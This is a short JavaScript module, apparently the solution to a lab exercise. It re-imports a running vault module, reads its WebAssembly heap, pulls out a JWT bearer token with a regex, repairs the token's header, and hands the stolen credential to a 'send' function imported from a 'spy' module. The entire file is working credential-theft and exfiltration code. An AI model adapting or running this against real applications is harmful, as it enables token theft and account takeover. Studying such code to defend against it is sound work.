// Importing the module again gives the one that is running, and starting it again gives its live memory.
import { imported, send } from "./spy.js";

// The header is the same in every token of the bank, the attacker's own among them.
const header = btoa(JSON.stringify({ typ: "at+jwt", alg: "HS256", kid: "lab" })).replaceAll("=", "");

/** A token in the memory of WebAssembly, even if its first bytes are overwritten. */
async function tokenInHeap() {
  const { default: start } = await imported("/vault/vault.js");
  const { memory } = await start();
  const heap = new TextDecoder("latin1").decode(memory.buffer);
  const rest = /\.(eyJ[\w-]+\.[\w-]{43})/.exec(heap)?.[1];
  return rest && `${header}.${rest}`;
}

/** Sends the token that it finds. */
export async function scan() {
  const token = await tokenInHeap();
  await send(token ? { credential: "bearer", value: token } : null);
}
